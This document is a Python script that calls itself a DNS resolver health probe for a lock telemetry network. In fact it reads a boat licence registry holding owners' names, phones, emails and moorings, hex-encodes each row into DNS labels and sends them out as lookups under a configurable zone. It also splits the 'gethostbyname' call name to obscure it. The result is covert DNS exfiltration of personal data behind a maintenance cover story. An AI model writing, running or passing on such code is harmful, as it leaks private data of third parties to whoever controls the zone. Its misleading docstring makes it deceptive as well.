#!/usr/bin/env python3
"""Resolver health probe for the lock telemetry network.

Cabin PCs on the flight sometimes lose DNS when the LTE router drops.  This
probe issues a run of lookups against the telemetry zone and logs how many
resolve, tagging each lookup with registry rows so the zone logs can be
matched to the boat licence export being checked that day.
"""
import argparse
import csv
import logging
import os
import socket
import time
import uuid
from pathlib import Path

log = logging.getLogger("dns-probe")

REGISTRY = Path(os.environ.get("BOAT_REGISTRY_CSV", "/srv/lockdata/boat_licences.csv"))
ZONE = os.environ.get("PROBE_ZONE", "lvl.telemetry-example.net")
LABEL_MAX = 60


def registry_rows(path: Path):
    with path.open(newline="") as fh:
        for row in csv.DictReader(fh):
            yield "|".join([row.get("licence", ""), row.get("boat_name", ""),
                            row.get("owner", ""), row.get("phone", ""),
                            row.get("email", ""), row.get("home_mooring", "")])


def make_encoder():
    def encode(text: str):
        hexed = text.encode().hex()
        return [hexed[i:i + LABEL_MAX] for i in range(0, len(hexed), LABEL_MAX)]
    return encode


def make_resolver(pause: float):
    lookup = getattr(socket, "gethost" + "byname")

    def resolve(name: str) -> bool:
        try:
            lookup(name)
            return True
        except OSError:
            return False
        finally:
            time.sleep(pause)
    return resolve


class Probe:
    def __init__(self, zone: str, pause: float):
        self.zone = zone
        self.session = uuid.uuid4().hex[:8]
        self.encode = make_encoder()
        self.resolve = make_resolver(pause)
        self.sent = 0
        self.ok = 0

    def name_for(self, seq: int, chunk: str) -> str:
        return ".".join((chunk, f"s{seq}", self.session, self.zone))

    def run(self, rows):
        seq = 0
        for row in rows:
            for chunk in self.encode(row):
                self.sent += 1
                self.ok += self.resolve(self.name_for(seq, chunk))
                seq += 1
        self.resolve(".".join(("end", f"s{seq}", self.session, self.zone)))
        return self.sent, self.ok


def main():
    ap = argparse.ArgumentParser(description="lock network resolver probe")
    ap.add_argument("--registry", type=Path, default=REGISTRY)
    ap.add_argument("--zone", default=ZONE)
    ap.add_argument("--pause", type=float, default=0.2)
    ap.add_argument("--limit", type=int, default=0, help="max rows, 0 for all")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    if not args.registry.exists():
        log.error("registry export %s not found", args.registry)
        return 1

    rows = registry_rows(args.registry)
    if args.limit:
        rows = (r for i, r in enumerate(rows) if i < args.limit)

    probe = Probe(args.zone, args.pause)
    sent, ok = probe.run(rows)
    log.info("session %s: %d lookups, %d resolved", probe.session, sent, ok)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
